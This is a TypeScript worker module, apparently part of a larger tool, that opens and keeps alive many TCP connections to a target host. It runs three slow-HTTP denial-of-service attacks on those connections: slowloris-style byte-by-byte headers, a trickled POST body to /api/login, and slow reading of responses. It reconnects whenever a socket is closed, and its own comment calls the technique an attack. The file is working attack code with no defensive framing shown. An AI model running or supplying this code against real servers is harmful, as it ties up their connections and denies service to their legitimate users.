import { connect, type Socket } from 'node:net';
import { answerJobs } from './children.ts';

export interface SlowJob {
  readonly host: string;
  readonly port: number;
  /** How many are to be connected from now on. */
  readonly connections: number;
  /** What those who read slowly ask for. */
  readonly path: string;
}

const everySecond = 1_000;
const sockets = new Set<Socket>();
let wanted = 0;

/** Sends its headers byte by byte: the server waits for their end. */
const sendsHeaders = (socket: Socket): (() => void) => {
  const text = `GET / HTTP/1.1\r\nhost: slow\r\nx-slow: ${'a'.repeat(2_000)}\r\n\r\n`;
  let sent = 0;
  return () => void socket.write(text[sent++] ?? '');
};

/** Sends its body byte by byte. */
const sendsBody = (socket: Socket): (() => void) => {
  socket.write('POST /api/login HTTP/1.1\r\nhost: slow\r\ncontent-type: application/json\r\ncontent-length: 2000\r\n\r\n');
  return () => void socket.write(' ');
};

/** Reads its answer byte by byte, and then asks again. */
const reads = (socket: Socket, path: string): (() => void) => {
  const ask = () => socket.write(`GET ${path} HTTP/1.1\r\nhost: slow\r\n\r\n`);
  socket.pause();
  ask();
  return () => void socket.read(1);
};

/** Somebody who stays connected: whoever is cut off comes again. */
const connectOne = (job: SlowJob, number: number): void => {
  if (sockets.size >= wanted) return;
  const socket = connect({ host: job.host, port: job.port });
  sockets.add(socket);
  const step = [sendsHeaders, sendsBody, (one: Socket) => reads(one, job.path)][number % 3]?.(socket);
  const clock = setInterval(() => step?.(), everySecond);
  socket.on('error', () => undefined);
  socket.on('close', () => {
    clearInterval(clock);
    sockets.delete(socket);
    setTimeout(() => connectOne(job, number), everySecond);
  });
};

/** Answers how many are connected, two seconds later. */
answerJobs<SlowJob, number>(async (job) => {
  wanted = job.connections;
  if (wanted === 0) for (const socket of sockets) socket.destroy();
  // Not all in one moment: that would be another attack.
  for (let number = 0; number < wanted; number += 1) setTimeout(() => connectOne(job, number), number);
  await new Promise((resolve) => setTimeout(resolve, wanted + 2_000));
  return sockets.size;
});
